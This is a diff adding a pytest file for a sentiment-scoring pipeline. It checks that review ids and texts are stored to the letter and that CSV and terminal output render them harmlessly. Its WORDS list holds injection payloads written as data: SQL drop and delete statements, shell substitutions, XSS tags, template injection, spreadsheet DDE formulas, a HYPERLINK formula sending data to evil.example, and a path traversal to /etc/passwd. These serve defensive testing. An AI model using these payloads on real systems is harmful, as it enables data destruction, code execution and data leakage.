@@ -1,0 +1,165 @@
+"""Ids and texts that are SQL, HTML, formulas, commands to a terminal: kept to the letter, and harmless wherever they are shown."""
+
+import csv
+import io
+import json
+from datetime import UTC, date, datetime, timedelta
+
+import pyarrow as pa
+import pyarrow.parquet as pq
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from rich.console import Console
+from sqlalchemy import text
+
+from sentiment_core import cli
+from sentiment_core.cli.single import _explanation, _predictions
+from sentiment_core.cli.sql import draw_csv, draw_json, draw_table
+from sentiment_core.errors import printable
+from sentiment_core.reviews.layout import incoming_prefix
+from sentiment_core.stages.night import score_window
+from sentiment_core.store.analyst import Column, Result
+
+DAY = date(2026, 11, 10)
+WORDS = [
+    "'; drop table sentiment.scored_reviews; --",
+    "$$; delete from sentiment.labels; $$",
+    "\\'; select pg_sleep(100); --",
+    "%s %(review_id)s {} {0} :review_id ${HOME} $(reboot) `id`",
+    "<script>alert(1)</script><img src=x onerror=alert(2)>",
+    "{{ 7*7 }}{% raw %}{{ ti.xcom_pull() }}",
+    "=cmd|'/c calc'!A1",
+    "+1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd",
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "../../etc/passwd",
+    "a\u202egnp.exe",
+    "\u2067isolated\u2069",
+    "null",
+    "NaN",
+    "\\N",
+    '"',
+    ",",
+    "'",
+    "\ufeffbom",
+    "\U0001f469\u200d\U0001f52c",
+    "e\u0301\u0301\u0301\u0301",
+    "\uffff",
+]
+FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n")
+
+
+@pytest.fixture
+def champion(services, trained_model, reader_url, monkeypatch):
+    """Services with a champion, to which the commands of this process lead as well."""
+    trained_model(services)
+    environment = {
+        "SENTIMENT_DATABASE_URL": services.settings.database_url,
+        "SENTIMENT_READER_URL": reader_url,
+        "SENTIMENT_MODEL_NAME": services.settings.model_name,
+        "SENTIMENT_STATE_DIR": str(services.settings.state_dir),
+        "MLFLOW_TRACKING_URI": services.settings.mlflow_tracking_uri,
+        "SENTIMENT_BUCKET": services.settings.bucket,
+        "AWS_ENDPOINT_URL_S3": services.settings.s3_endpoint_url,
+        "AWS_ACCESS_KEY_ID": services.settings.s3_access_key_id,
+        "AWS_SECRET_ACCESS_KEY": services.settings.s3_secret_access_key,
+    }
+    for name, value in environment.items():
+        monkeypatch.setenv(name, value)
+    return services
+
+
+def deliver(services, form):
+    """Every word as id, text, product, source and language of a review."""
+    names = ("review_id", "text", "product_id", "source", "language")
+    table = pa.table(dict.fromkeys(names, WORDS))
+    if form == "parquet":
+        sink = io.BytesIO()
+        pq.write_table(table, sink)
+        content = sink.getvalue()
+    elif form == "jsonl":
+        content = "".join(json.dumps(row, ensure_ascii=False) + "\n" for row in table.to_pylist()).encode()
+    else:
+        lines = io.StringIO(newline="")
+        csv.writer(lines, quoting=csv.QUOTE_ALL).writerows([names, *([word] * len(names) for word in WORDS)])
+        content = lines.getvalue().encode()
+    services.bucket.put(f"{incoming_prefix(DAY)}a.{form}", content)
+
+
+@pytest.mark.parametrize("form", ["parquet", "jsonl", "csv"])
+def test_words_are_stored_to_the_letter_and_nothing_happens(champion, form, capsys):
+    deliver(champion, form)
+    outcome = score_window(champion, DAY)
+    assert (outcome["n_scored"], outcome["n_quarantined"]) == (len(WORDS), 0)
+    with champion.engine.connect() as connection:
+        rows = connection.execute(text("select review_id, product_id, source, text_excerpt from sentiment.scored_reviews")).all()
+    assert {tuple(row) for row in rows} == {(word,) * 4 for word in WORDS}
+    query = "select review_id, product_id, p_positive - 1 as n from sentiment.scored_reviews order by 1"
+    capsys.readouterr()
+    assert cli.run(["sql", "--json", "-c", query]) == 0
+    assert {row["review_id"] for row in json.loads(capsys.readouterr().out)} == set(WORDS)
+    assert cli.run(["sql", "--csv", "-c", query]) == 0
+    told = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))[1:]
+    assert not [row for row in told if row[0].startswith(FORMULA) or row[1].startswith(FORMULA)]
+    assert {row[0].removeprefix("'") if row[0][1:].startswith(FORMULA) else row[0] for row in told} == set(WORDS)
+    assert all(float(row[2]) <= 0 for row in told), "a number stays one"
+    assert cli.run(["sql", "-c", query]) == 0
+    table = capsys.readouterr().out
+    assert printable(table) == table
+    for word in WORDS[4:13:4] if form == "jsonl" else ():
+        assert cli.run(["explain", "--", word]) == 0
+        shown = capsys.readouterr().out
+        assert printable(shown) == shown
+
+
+def test_a_scored_file_keeps_ids_as_they_came_and_quotes_every_one(champion, tmp_path):
+    source, target = tmp_path / "in.parquet", tmp_path / "out.csv"
+    pq.write_table(pa.table({"review_id": WORDS, "text": WORDS}), source)
+    assert cli.run(["score-file", str(source), str(target)]) == 0
+    with target.open(encoding="utf-8", newline="") as lines:
+        assert [row["review_id"] for row in csv.DictReader(lines)] == WORDS
+    first_cells = [line.split(b",")[0] for line in target.read_bytes().splitlines()[1:]]
+    assert all(cell.startswith(b'"') for cell in first_cells)
+
+
+anything = st.text(max_size=30)
+
+
+@settings(deadline=None)
+@given(value=anything | st.sampled_from(WORDS), name=anything)
+def test_whatever_a_result_holds_a_terminal_only_shows_it(value, name):
+    result = Result(columns=(Column(name=name, oid=25),), rows=[(value,), (None,)], status="SELECT 2")
+    table = draw_table(result)
+    assert printable(table) == table
+    cells = list(csv.reader(io.StringIO(draw_csv(result), newline="")))
+    cell = cells[1][0] if cells[1] else ""
+    assert len(cells) == 3
+    assert cells[0] in ([name], [])
+    assert not cell.startswith(FORMULA)
+    assert cell in (value, f"'{value}")
+    assert json.loads(draw_json(result))[0][name] == value
+
+
+@settings(deadline=None)
+@given(words=st.text(min_size=1, max_size=60))
+def test_whatever_a_review_says_its_explanation_only_shows_it(words):
+    console = Console(file=io.StringIO(), force_terminal=False, width=100)
+    score = {"label": "positive", "p_negative": 0.1, "p_neutral": None, "p_positive": 0.9}
+    explanation = {
+        "decisive": "positive", "scores": {"positive": 1.0}, "intercepts": {"positive": 0.0}, "offsets": {"positive": 0.0},
+        "terms": [{"kind": "words", "term": "x", "written": "x", "count": 1, "contributions": {"positive": 1.0}}],
+    }  # fmt: skip
+    result = {
+        "review": {"review_id": words, "review_date": DAY, "product_id": words, "source": words, "text": words},
+        "score": score, "explanation": explanation,
+        "model": {"version": 1, "name": "sentiment", "snapshot": None},
+        "object": {"url": f"s3://b/{words}", "row_number": 0, "object_id": 1},
+        "run": {"run_id": "r", "scored_at": datetime.now(UTC) - timedelta(days=1)},
+    }  # fmt: skip
+    console.print(_explanation(result, 12))
+    predicted = {"label": "positive", "scores": {"positive": 0.9, "negative": 0.1}, "text": words}
+    console.print(_predictions([predicted], 100))
+    shown = console.file.getvalue()
+    assert printable(shown) == shown
